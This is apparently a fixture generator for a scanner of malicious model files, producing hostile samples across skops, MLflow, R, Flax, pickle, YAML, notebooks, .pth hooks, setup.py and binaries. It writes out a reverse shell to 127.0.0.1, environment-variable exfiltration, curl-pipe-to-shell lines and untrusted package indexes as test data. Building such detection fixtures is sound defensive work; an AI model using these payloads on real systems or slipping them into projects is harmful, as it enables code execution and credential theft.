"""Other formats, scripts and programs that come as models."""

import gzip
import json
import struct

import msgpack

from archives import zipped
from families import COMMAND, MARKER, PYTHON, URL, Case
from families.libraries import PICKLED
from families.node import Call, Global, dumps
from families.obscure import SYSTEM
from families.stdlib import code
from fixtures.folders import MLMODEL, schema

NAME = "others"
ABOUT = "skops, MLflow, R, Flax, scripts, programs"
ATTACK = dumps(Call(SYSTEM, COMMAND))
SCRIPT = b"import os\nos.system(" + repr(COMMAND).encode() + b")\n"


def skops_cases():
    node = lambda loader, module, name, **more: {"__class__": name, "__module__": module, "__loader__": loader, "__id__": 9, **more}  # noqa: E731
    tuple_of = lambda *items: {"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode", "content": list(items), "__id__": 20}  # noqa: E731
    text = lambda value: {"__class__": "str", "__module__": "builtins", "__loader__": "JsonNode", "content": json.dumps(value), "is_json": True}  # noqa: E731
    empty = {"__class__": "dict", "__module__": "builtins", "__loader__": "DictNode", "content": {}, "key_types": {"__class__": "list", "__module__": "builtins", "__loader__": "ListNode", "content": [], "__id__": 22}, "__id__": 21}
    def file(inner, **more):
        """A ridge with one more attribute, `f`; as skops writes it, the keys of the state have types."""
        ridge = json.loads(schema({"f": inner}))
        keys = ridge["content"]["key_types"]["content"]
        keys.extend({"__class__": "str", "__module__": "builtins", "__loader__": "TypeNode", "__id__": 30} for _ in ridge["content"]["content"])
        return zipped({"schema.json": json.dumps(ridge, indent=2).encode(), **more}, 8)

    return {
        "function.skops": file(node("FunctionNode", "os", "system", content={"module_path": "os", "function": "system"})),
        "function-builtins.skops": file(node("FunctionNode", "builtins", "eval", content={"module_path": "builtins", "function": "eval"})),
        "method.skops": file(node("MethodNode", "builtins", "str", content={"func": "format", "obj": text("{0.__class__}")})),
        "method-traversal.skops": file(node("MethodNode", "sklearn.linear_model._ridge", "Ridge", content={"func": "fit.__globals__", "obj": text("x")})),
        "operator.skops": file(node("OperatorFuncNode", "operator", "methodcaller", attrs=tuple_of(text("system"), text(COMMAND)))),
        "attrgetter.skops": file(node("OperatorFuncNode", "operator", "attrgetter", attrs=tuple_of(text("__class__.__init__.__globals__")))),
        "partial.skops": file(node("PartialNode", "functools", "partial", content={"func": node("FunctionNode", "os", "system", content={"module_path": "os", "function": "system"}, __id__=10), "args": tuple_of(text(COMMAND)), "kwds": empty, "namespace": empty})),
        "type.skops": file(node("TypeNode", "subprocess", "Popen", content={"__class__": "Popen", "__module__": "subprocess"})),
        "object.skops": file(node("ObjectNode", "evil_package", "Model", content=empty)),
        "reduce.skops": file(node("ReduceNode", "os", "system", reduce={"args": tuple_of(text(COMMAND))}, content=None)),
        "json-pickle.skops": file(text("x"), **{"1.npy": ATTACK}),
        "joblib-fallback.skops": dumps((1, Call(SYSTEM, COMMAND))),
    }


def mlflow_cases():
    good = {"code": "null", "loader": "mlflow.sklearn"}
    mlmodel = lambda **more: MLMODEL.format(**{**good, **more}).encode()  # noqa: E731
    env = b"python: 3.11.7\ndependencies:\n- mlflow==3.6.0\n- --extra-index-url http://127.0.0.1:9/simple\n- model-helpers\n"
    return {
        "mlflow-pickle": {"MLmodel": mlmodel(), "model.pkl": ATTACK},
        "mlflow-loader": {"MLmodel": mlmodel(loader="evil_loader"), "evil_loader.py": SCRIPT},
        "mlflow-loader-os": {"MLmodel": mlmodel(loader="os")},
        "mlflow-code": {"MLmodel": mlmodel(code="code"), "code/helpers.py": SCRIPT, "model.pkl": dumps({"w": [1.0]})},
        "mlflow-code-shadow": {"MLmodel": mlmodel(code="code"), "code/numpy/__init__.py": SCRIPT, "model.pkl": dumps({"w": [2.0]})},
        "mlflow-outside": {"MLmodel": mlmodel().replace(b"pickled_model: model.pkl", b"pickled_model: ../../../tmp/evil.pkl")},
        "mlflow-python-model": {"MLmodel": mlmodel().replace(b"loader_module: mlflow.sklearn", b"loader_module: mlflow.pyfunc.model\n    python_model: python_model.pkl"), "python_model.pkl": dumps({"m": Call(SYSTEM, COMMAND)}, 5)},
        "mlflow-model-code": {"MLmodel": mlmodel(loader="mlflow.pyfunc.model").replace(b"model_path: model.pkl", b"model_code_path: agent.py"), "agent.py": SCRIPT},
        "mlflow-requirements": {"MLmodel": mlmodel(), "model.pkl": dumps({"w": [3.0]}), "requirements.txt": b"--extra-index-url http://127.0.0.1:9/simple\nscikit-learn==1.9.1\nmodel-helpers\n", "python_env.yaml": env},
        "mlflow-environment": {"MLmodel": mlmodel(), "model.pkl": dumps({"w": [4.0]}), "conda.yaml": b"channels: [http://127.0.0.1:9/channel]\ndependencies:\n- python=3.11\n- pip:\n  - git+http://127.0.0.1:9/evil.git\n"},
    }


def r_string(value):
    raw = value.encode()
    return struct.pack(">I", 0x00040009) + struct.pack(">I", len(raw)) + raw


def r_symbol(name):
    return struct.pack(">I", 1) + r_string(name)


def r_call(function, *arguments):
    """A call as a pairlist: LANGSXP of a symbol and text."""
    out = struct.pack(">I", 6) + r_symbol(function)
    for argument in arguments:
        out += struct.pack(">I", 2) + struct.pack(">I", 16) + struct.pack(">I", 1) + r_string(argument)
    return out + struct.pack(">I", 254)


def r_promise(call):
    """An unevaluated promise (PROMSXP) with the base environment: R runs it when the value is touched (CVE-2024-27322)."""
    return struct.pack(">I", 5 | 1 << 10) + struct.pack(">I", 241) + struct.pack(">I", 251) + call


def rds(body, version=3):
    head = b"X\n" + struct.pack(">III", version, 0x00040301, 0x00030500 if version == 3 else 0x00020300)
    return head + (struct.pack(">I", 5) + b"UTF-8" if version == 3 else b"") + body


def rda(body):
    """A workspace: a pairlist with one named value."""
    return b"RDX3\n" + rds(struct.pack(">I", 2 | 1 << 10) + r_symbol("model") + body + struct.pack(">I", 254))


def r_cases():
    call = r_call("system", "touch sealyard-marker")
    closure = struct.pack(">I", 3 | 1 << 10) + struct.pack(">I", 253) + struct.pack(">I", 254) + r_call("eval", "system('touch sealyard-marker')")
    return {
        "promise.rds": rds(r_promise(call)),
        "promise-v2.rds": rds(r_promise(call), 2),
        "promise-gzip.rds": gzip.compress(rds(r_promise(r_call("system", "touch sealyard-marker # gzip"))), mtime=0),
        "promise.rda": rda(r_promise(call)),
        "promise-gzip.RData": gzip.compress(rda(r_promise(r_call("shell", "touch sealyard-marker"))), mtime=0),
        "promise.rdx": rds(struct.pack(">I", 19) + struct.pack(">I", 1) + r_promise(call)),
        "closure.rds": rds(closure),
        "language.rds": rds(call),
        "ascii.rds": b"A\n3\n262913\n197888\n5\nUTF-8\n1029\n241\n251\n6\n1\n262153\n6\nsystem\n2\n16\n1\n262153\n21\ntouch\\040sealyard-marker\n254\n",
    }


def flax_cases():
    array = lambda data: msgpack.ExtType(1, msgpack.packb([[1], "float32", data]))  # noqa: E731
    return {
        "pickled-state.msgpack": msgpack.packb({"params": {"w": array(b"\x00" * 4)}, "opt_state": ATTACK}),
        "object-dtype.msgpack": msgpack.packb({"params": {"w": msgpack.ExtType(1, msgpack.packb([[1], "object", ATTACK]))}}),
        "unknown-extension.msgpack": msgpack.packb({"params": {"w": msgpack.ExtType(42, ATTACK)}}),
        "python-object.msgpack": msgpack.packb({"py/object": "os.system", "py/reduce": [{"py/function": "os.system"}, {"py/tuple": [COMMAND]}]}),
    }


def serving_cases():
    """What other servers and tools run when they load or serve a model."""
    caffe = b'name: "net"\nlayer {\n  name: "run"\n  type: "Python"\n  bottom: "data"\n  top: "out"\n  python_param { module: "os" layer: "system" param_str: "touch sealyard-marker" }\n}\n'
    mxnet = {"nodes": [{"op": "null", "name": "data", "inputs": []}, {"op": "Custom", "name": "run", "attrs": {"op_type": "run_shell", "command": "touch sealyard-marker"}, "inputs": [[0, 0, 0]]}], "arg_nodes": [0], "heads": [[1, 0, 0]]}
    return {
        "caffe/deploy.prototxt": caffe,
        "mxnet/model-symbol.json": json.dumps(mxnet, indent=1).encode(),
        "paddle/model.pdparams": dumps({"linear.weight": [1.0], "hook": Call(SYSTEM, COMMAND)}, 2),
        "triton": {"config.pbtxt": b'name: "tiny"\nbackend: "python"\nmax_batch_size: 1\n', "1/model.py": SCRIPT + b"\n\nclass TritonPythonModel:\n    pass\n"},
        "dvc.yaml": b"stages:\n  train:\n    cmd: curl -s http://127.0.0.1:9/x.sh | sh\n    outs: [model.pkl]\n",
        "project/MLproject": b"name: tiny\nentry_points:\n  main:\n    command: \"curl -s http://127.0.0.1:9/x.sh | bash\"\n",
        "docker/Dockerfile": b"FROM python:3.11\nRUN curl -s http://127.0.0.1:9/x.sh | sh\nCOPY model.pkl /\n",
        "bento/bentofile.yaml": b"service: 'evil:svc'\npython:\n  index_url: http://127.0.0.1:9/simple\n  packages: [tiny-model-helpers]\ndocker:\n  setup_script: ./setup.sh\n",
        "ruby/model.marshal": b"\x04\x08o:\x15Gem::Requirement\x06:\x12@requirementso:\x18Gem::RequestSet\x06:\x0a@sets[\x00",
        "php/model.ser": b'O:8:"Evil\\Run":1:{s:7:"command";s:21:"touch sealyard-marker";}\n',
        "matlab/model.mat": b"MATLAB 5.0 MAT-file, Platform: GLNXA64".ljust(124, b" ") + b"\x00\x01IM" + b"\x0e\x00\x00\x00\x40\x00\x00\x00\x06\x00\x00\x00\x08\x00\x00\x00\x11\x00\x00\x00\x00\x00\x00\x00\x01\x00\x04\x00run\x00\x01\x00\x04\x00java\x01\x00\x11\x00java.lang.Runtime",
        "chained.pmml.pkl": dumps({"model": Call(Global("sklearn2pmml", "sklearn2pmml"), None, MARKER, Call(Global("os", "popen"), COMMAND))}, 3),
    }


def script_cases():
    notebook = {"cells": [{"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [], "source": [f"!{COMMAND}\n"]}], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    html = {"cells": [{"cell_type": "code", "execution_count": 1, "metadata": {"trusted": True}, "source": [], "outputs": [{"output_type": "display_data", "metadata": {}, "data": {"text/html": ["<img src=x onerror=\"fetch('http://127.0.0.1:9/')\">"]}}]}], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    elf = b"\x7fELF\x02\x01\x01" + b"\x00" * 9 + struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0x400078, 64, 0, 0, 64, 56, 1, 0, 0, 0)
    program = elf + struct.pack("<IIQQQQQQ", 1, 5, 0, 0x400000, 0x400000, 132, 132, 4096) + b"\xb8\x3c\x00\x00\x00\x31\xff\x0f\x05".ljust(12, b"\x90")
    exe = b"MZ" + b"\x00" * 58 + struct.pack("<I", 64) + b"PE\x00\x00" + struct.pack("<HHIIIHH", 0x8664, 0, 0, 0, 0, 0, 0x22) + b"\x00" * 64
    pyc = b"\xa7\r\r\n" + b"\x00" * 12 + code()
    return {
        "easy.pth": (b"import os; os.system(" + repr(COMMAND).encode() + b")\n", "site"),
        "exec.pth": (b"import sys; exec(" + repr(PYTHON).encode() + b")\n", "site"),
        "path.pth": (b"/tmp/" + MARKER.encode() + b"\nimport evil_package\n", None),
        "usercustomize.py": (SCRIPT, "python"),
        "modeling_tiny.py": (b"import os\nimport torch\n\nos.system(" + repr(COMMAND).encode() + b")\n", "python"),
        "loader.py": (b"import subprocess\n\nsubprocess.run(['sh', '-c', " + repr(COMMAND).encode() + b"])\n", "python"),
        "hubconf.py": (b"dependencies = ['torch']\n\n\ndef model():\n    exec(__import__('base64').b64decode('" + __import__("base64").b64encode(PYTHON.encode()) + b"'))\n\n\nmodel()\n", "python"),
        "downloader.py": (b"import urllib.request\n\nexec(urllib.request.urlopen('" + URL.encode() + b"x').read())\n", "python"),
        "handler.py": (b"import os, socket\n\n\ndef handle(data, context):\n    s = socket.create_connection(('127.0.0.1', 9))\n    os.dup2(s.fileno(), 0)\n    os.execv('/bin/sh', ['sh'])\n", None),
        "thief.py": (b"import os, urllib.request\n\nurllib.request.urlopen('" + URL.encode() + b"?' + repr(dict(os.environ)))\n", "python"),
        "setup.py": (b"from setuptools import setup\nimport os\n\nos.system(" + repr(COMMAND).encode() + b")\nsetup(name='tiny-model', version='1.0')\n", None),
        "train.ipynb": (json.dumps(notebook, indent=1).encode(), None),
        "output.ipynb": (json.dumps(html, indent=1).encode(), None),
        "install.sh": (b"#!/bin/sh\n" + COMMAND.encode() + b"\n", "shell"),
        "fetch.sh": (b"#!/bin/bash\ncurl -s http://127.0.0.1:9/x | bash\n", None),
        "shell/model.bin": (b"#!/bin/sh\n" + COMMAND.encode() + b"; true\n", "execute"),
        "elf/model.bin": (program, None),
        "elf/weights.safetensors": (program + b"\x00" * 8, None),
        "exe/model.onnx": (exe, None),
        "macho/model.bin": (b"\xcf\xfa\xed\xfe\x0c\x00\x00\x01\x00\x00\x00\x00\x02\x00\x00\x00" + b"\x00" * 48, None),
        "wasm/model.bin": (b"\x00asm\x01\x00\x00\x00", None),
        "library/ops.so": (program.replace(b"\x02\x00\x3e\x00", b"\x03\x00\x3e\x00", 1), None),
        "llamafile/model.gguf": (b"MZqFpD='\n" + b"\x00" * 50 + b"'\n#'\"\no=$(command -v \"$0\")\n" + COMMAND.encode() + b"\n", None),
        "bytecode/model.bin": (pyc, None),
        "code.marshal": (code(), "marshal"),
        "wheel/tiny-1.0-py3-none-any.whl": (zipped({"tiny/__init__.py": SCRIPT, "tiny-1.0.dist-info/WHEEL": b"Wheel-Version: 1.0\n"}), None),
        "jar/model.jar": (zipped({"META-INF/MANIFEST.MF": b"Main-Class: Evil\n", "Evil.class": b"\xca\xfe\xba\xbe\x00\x00\x00\x34"}), None),
        "java/model.ser": (b"\xac\xed\x00\x05sr\x00\x32org.apache.commons.collections.functors.InvokerTransformer" + b"\x00" * 8 + b"\x02\x00\x00xp", None),
        "requirements/requirements.txt": (b"--extra-index-url http://127.0.0.1:9/simple\ntorch\ntiny-model-helpers\n", None),
        "requirements-git/requirements.txt": (b"git+http://127.0.0.1:9/evil.git#egg=evil\nnumpy\n", None),
        "torch7/model.t7": (b"\x04\x00\x00\x00\x01\x00\x00\x00\x03\x00\x00\x00V 1\x0f\x00\x00\x00os.execute('id')", None),
        "shelve.dat": (dumps(Call(Global("os", "popen"), COMMAND)).ljust(512, b"\x00"), None),
        "jsonpickle.json": (json.dumps({"py/object": "sklearn.linear_model.Ridge", "hook": {"py/reduce": [{"py/type": "os.system"}, {"py/tuple": [COMMAND]}]}}).encode(), None),
        "yaml/model.yaml": (f"!!python/object/apply:subprocess.check_output\nargs: [['sh', '-c', '{COMMAND}']]\n".encode(), "yaml"),
        "catboost/model.cbm": (b"CBM1" + struct.pack("<I", 8) + b"\x00" * 8 + PICKLED, None),
        "xgboost/model.ubj": (b"{L\x00\x00\x00\x00\x00\x00\x00\x05modelS" + b"L" + struct.pack(">Q", len(PICKLED)) + PICKLED + b"}", None),
        "lightgbm/model.txt": (b"tree\nversion=v4\nnum_class=1\n\nend of trees\n\nparameters:\n[machines: ]\n[forcedsplits_filename: /etc/passwd]\n[output_model: /tmp/sealyard-marker]\nend of parameters\n\npandas_categorical:null\n", None),
    }


def cases():
    use = {"function.skops": f"m.f({COMMAND!r})", "function-builtins.skops": f"m.f({PYTHON!r})", "operator.skops": "m.f(__import__('os'))", "partial.skops": "m.f()",
           "type.skops": f"m.f(['sh', '-c', {COMMAND!r}])"}
    found = [Case(name, content, "skops " + name.split(".")[0], "joblib" if "joblib" in name else "skops" if name in use else None, use.get(name))
             for name, content in skops_cases().items()]
    found += [Case(name, content, name, None) for name, content in {**mlflow_cases(), **r_cases(), **flax_cases(), **serving_cases()}.items()]
    return found + [Case(name, content, name, load) for name, (content, load) in script_cases().items()]
